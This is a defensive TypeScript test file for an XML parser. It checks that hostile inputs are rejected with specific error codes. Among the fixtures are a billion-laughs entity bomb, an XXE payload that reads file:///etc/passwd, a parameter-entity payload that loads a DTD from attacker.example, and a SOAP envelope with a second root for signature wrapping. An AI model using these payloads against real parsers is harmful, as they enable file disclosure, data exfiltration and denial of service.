/**
 * Hostile inputs, each a named fixture with the exact code it must produce. Every fixture also
 * proves that nothing but an XmlIntakeError escapes (no crash, no RangeError from recursion).
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalize } from './c14n.ts';
import { parseXml, XmlIntakeError } from './intake.ts';
import type { IntakeLimits } from './intake.ts';
import { findAncestorNamespaces } from './namespace-scope.ts';
import type { XmlElement } from './tree.ts';

function rejection(input: string | Uint8Array, limits?: Partial<IntakeLimits>): XmlIntakeError {
  let thrown: unknown = null;
  try {
    parseXml(input, limits ? { limits } : {});
  } catch (e) {
    thrown = e;
  }
  expect(thrown).toBeInstanceOf(XmlIntakeError);
  return thrown as XmlIntakeError;
}

const MB = 1024 * 1024;

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<lolz>&lol9;</lolz>`;

const XXE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM "file:///etc/passwd" > ]>
<foo>&xxe;</foo>`;

const PARAMETER_ENTITIES = `<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd">
  %dtd;
]>
<data>&send;</data>`;

const SOAP = 'http://schemas.xmlsoap.org/soap/envelope/';
const SIGNED_ENVELOPE = `<s:Envelope xmlns:s="${SOAP}"><s:Header/><s:Body wsu:Id="b" xmlns:wsu="urn:wsu"><ok/></s:Body></s:Envelope>`;

const fixtures: {
  name: string;
  input: () => string | Uint8Array;
  code: string;
  limits?: Partial<IntakeLimits>;
}[] = [
  { name: 'billion laughs', input: () => BILLION_LAUGHS, code: 'XML_DOCTYPE_FORBIDDEN' },
  {
    name: 'external entity (XXE, SYSTEM file:///etc/passwd)',
    input: () => XXE,
    code: 'XML_DOCTYPE_FORBIDDEN',
  },
  { name: 'parameter entities', input: () => PARAMETER_ENTITIES, code: 'XML_DOCTYPE_FORBIDDEN' },
  { name: 'entity reference without a DTD', input: () => '<foo>&xxe;</foo>', code: 'XML_ENTITY_FORBIDDEN' },
  {
    name: 'entity reference in an attribute',
    input: () => '<foo a="&lol9;"/>',
    code: 'XML_ENTITY_FORBIDDEN',
  },
  { name: 'empty file', input: () => new Uint8Array(0), code: 'XML_EMPTY' },
  { name: 'lone UTF-8 BOM', input: () => new Uint8Array([0xef, 0xbb, 0xbf]), code: 'XML_EMPTY' },
  { name: 'lone BOM as a string', input: () => '\uFEFF', code: 'XML_EMPTY' },
  {
    name: 'UTF-16 document with BOM',
    input: () =>
      new Uint8Array([0xff, 0xfe, ...Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a/>', 'utf16le')]),
    code: 'XML_ENCODING_UNSUPPORTED',
  },
  {
    name: 'UTF-16 document without BOM',
    input: () => new Uint8Array(Buffer.from('<a>x</a>', 'utf16le')),
    code: 'XML_ENCODING_UNSUPPORTED',
  },
  {
    name: 'binary garbage (fixed bytes)',
    input: () => new Uint8Array([0x3c, 0x8f, 0x12, 0xff, 0x00, 0xc3, 0x28, 0xa0, 0xa1]),
    code: 'XML_ENCODING_UNSUPPORTED',
  },
  {
    name: 'many roots (CVE-2022-39353 shape: a second envelope after the signed one)',
    input: () => `${SIGNED_ENVELOPE}<s:Envelope xmlns:s="${SOAP}"><s:Body><evil/></s:Body></s:Envelope>`,
    code: 'XML_MULTIPLE_ROOTS',
  },
  { name: 'many roots (1,000 siblings)', input: () => '<r/>'.repeat(1000), code: 'XML_MULTIPLE_ROOTS' },
  {
    name: 'a second root hidden after a comment',
    input: () => `${SIGNED_ENVELOPE}<!-- --><x/>`,
    code: 'XML_MULTIPLE_ROOTS',
  },
  { name: 'text after the root', input: () => `${SIGNED_ENVELOPE}trailing`, code: 'XML_TEXT_OUTSIDE_ROOT' },
  {
    name: '10,000-deep nesting',
    input: () => '<a>'.repeat(10_000) + '</a>'.repeat(10_000),
    code: 'XML_LIMIT_DEPTH',
  },
  { name: '10,000-deep unclosed nesting', input: () => '<a>'.repeat(10_000), code: 'XML_LIMIT_DEPTH' },
  { name: 'huge attribute (300 KB)', input: () => `<a v="${'x'.repeat(300_000)}"/>`, code: 'XML_LIMIT_TEXT' },
  { name: 'huge text (300 KB)', input: () => `<a>${'x'.repeat(300_000)}</a>`, code: 'XML_LIMIT_TEXT' },
  {
    name: 'huge text made of references (limit applies to the decoded value)',
    input: () => `<a>${'&#65;'.repeat(60_000)}</a>`,
    code: 'XML_LIMIT_TEXT',
    limits: { maxTextLength: 50_000 },
  },
  { name: 'huge comment', input: () => `<a><!--${'x'.repeat(300_000)}--></a>`, code: 'XML_LIMIT_TEXT' },
  {
    name: 'huge CDATA section',
    input: () => `<a><![CDATA[${'x'.repeat(300_000)}]]></a>`,
    code: 'XML_LIMIT_TEXT',
  },
  {
    name: 'many namespaces (200 declarations over 20 elements)',
    input: () => {
      let s = '';
      for (let e = 0; e < 20; e++) {
        s += '<e';
        for (let k = 0; k < 10; k++) s += ` xmlns:p${e}_${k}="urn:n:${e}:${k}"`;
        s += '>';
      }
      return s + '</e>'.repeat(20);
    },
    code: 'XML_LIMIT_NAMESPACES',
  },
  {
    name: 'many namespaces on one element (counted as attributes)',
    input: () => `<e ${Array.from({ length: 40 }, (_, k) => `xmlns:p${k}="urn:${k}"`).join(' ')}/>`,
    code: 'XML_LIMIT_ATTRIBUTES',
  },
  {
    name: 'many attributes on one element',
    input: () => `<e ${Array.from({ length: 1000 }, (_, k) => `a${k}="1"`).join(' ')}/>`,
    code: 'XML_LIMIT_ATTRIBUTES',
  },
  {
    name: 'many elements (flat)',
    input: () => `<r>${'<e/>'.repeat(20_001)}</r>`,
    code: 'XML_LIMIT_ELEMENTS',
  },
  {
    name: 'comment trick: -- inside a comment',
    input: () => '<a><!-- a -- b --></a>',
    code: 'XML_MALFORMED',
  },
  { name: 'comment trick: comment ending in --->', input: () => '<a><!-- a ---></a>', code: 'XML_MALFORMED' },
  { name: 'comment trick: <!--> is not a comment', input: () => '<a><!--></a>', code: 'XML_MALFORMED' },
  { name: 'comment trick: unterminated comment', input: () => '<a><!-- </a>', code: 'XML_MALFORMED' },
  {
    name: 'comment trick: unterminated comment swallowing the end of the envelope',
    input: () => SIGNED_ENVELOPE.replace('<ok/>', '<!--<ok/>'),
    code: 'XML_MALFORMED',
  },
  {
    name: 'processing instruction in the Body',
    input: () => '<a><?evil payload?></a>',
    code: 'XML_PI_FORBIDDEN',
  },
  { name: 'NUL byte', input: () => '<a>\u0000</a>', code: 'XML_INVALID_CHARACTER' },
  {
    name: 'overlong UTF-8 encoding of <',
    input: () => new Uint8Array([0x3c, 0x61, 0x3e, 0xc0, 0xbc, 0x2f, 0x61, 0x3e]),
    code: 'XML_ENCODING_UNSUPPORTED',
  },
  {
    name: 'declared ISO-8859-1',
    input: () => '<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
    code: 'XML_ENCODING_UNSUPPORTED',
  },
  { name: 'CDATA end marker in text', input: () => '<a>]]></a>', code: 'XML_MALFORMED' },
  { name: 'unbound prefix', input: () => '<wsse:Security/>', code: 'XML_NAMESPACE_ERROR' },
  {
    name: 'same attribute twice under different prefixes (Id confusion)',
    input: () => '<a xmlns:u="urn:wsu" xmlns:v="urn:wsu" u:Id="body" v:Id="evil"/>',
    code: 'XML_DUPLICATE_ATTRIBUTE',
  },
];

describe('hostile XML fixtures', () => {
  for (const f of fixtures)
    it(`${f.name} -> ${f.code}`, () => {
      const e = rejection(f.input(), f.limits);
      expect(e.code, e.message).toBe(f.code);
      expect(e.message).not.toMatch(/root:|at Parser\.|\/etc\/passwd:/);
    });

  it('XXE: the message never carries file contents, and no file is read', () => {
    const e = rejection(XXE);
    expect(e.message).toMatch(/DOCTYPE/);
    expect(e.message).not.toMatch(/root:x:0:0/);
    expect(e.position).toEqual({ line: 2, column: 1, offset: XXE.indexOf('<!DOCTYPE') });
  });

  it('a 100 MB string is refused by the byte limit before any parsing', () => {
    const huge = '<a>' + 'x'.repeat(100 * MB) + '</a>';
    const e = rejection(huge);
    expect(e.code).toBe('XML_LIMIT_BYTES');
    expect(e.position).toBeNull();
  });

  it('a 100 MB byte array is refused before decoding (invalid UTF-8 and a UTF-16 BOM are never looked at)', () => {
    const huge = new Uint8Array(100 * MB).fill(0xff);
    huge[0] = 0xff;
    huge[1] = 0xfe;
    const e = rejection(huge);
    expect(e.code).toBe('XML_LIMIT_BYTES');
    expect(e.position).toBeNull();
  });

  it('the byte limit counts UTF-8 bytes, not UTF-16 units', () => {
    const doc = `<a>${'é'.repeat(600)}</a>`; // 607 units, 1207 bytes
    expect(rejection(doc, { maxBytes: 1000 }).code).toBe('XML_LIMIT_BYTES');
    expect(rejection(new TextEncoder().encode(doc), { maxBytes: 1000 }).code).toBe('XML_LIMIT_BYTES');
    expect(() => parseXml(doc, { limits: { maxBytes: 1207 } })).not.toThrow();
  });

  it('random bytes never produce anything but XmlIntakeError (or a tree)', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => {
        try {
          parseXml(bytes);
        } catch (e) {
          if (!(e instanceof XmlIntakeError)) throw e;
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('a comment may contain markup-looking text, which stays a comment', () => {
    const doc = parseXml(
      '<a><!-- <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e; <?pi?> <b/> --></a>',
    );
    expect(doc.root.children).toHaveLength(1);
    expect(doc.root.children[0]?.kind).toBe('comment');
  });

  it('the builder, canonicalizer and scope walk are iterative: 100,000 levels when the limits allow it', () => {
    const depth = 100_000;
    const src = '<a xmlns:p="urn:p">' + '<p:b>'.repeat(depth) + 'x' + '</p:b>'.repeat(depth) + '</a>';
    const doc = parseXml(src, { limits: { maxDepth: depth + 1, maxElements: depth + 1, maxBytes: 2 * MB } });
    let deepest: XmlElement = doc.root;
    for (;;) {
      const next = deepest.children[0];
      if (next?.kind !== 'element') break;
      deepest = next;
    }
    expect(deepest.name).toBe('p:b');
    const c14n = canonicalize(doc);
    expect(c14n.startsWith('<a><p:b xmlns:p="urn:p"><p:b>')).toBe(true);
    expect(c14n.length).toBe('<a></a>'.length + depth * '<p:b></p:b>'.length + ' xmlns:p="urn:p"'.length + 1);
    expect(findAncestorNamespaces(doc, deepest)).toEqual([{ prefix: 'p', uri: 'urn:p' }]);
  });
});
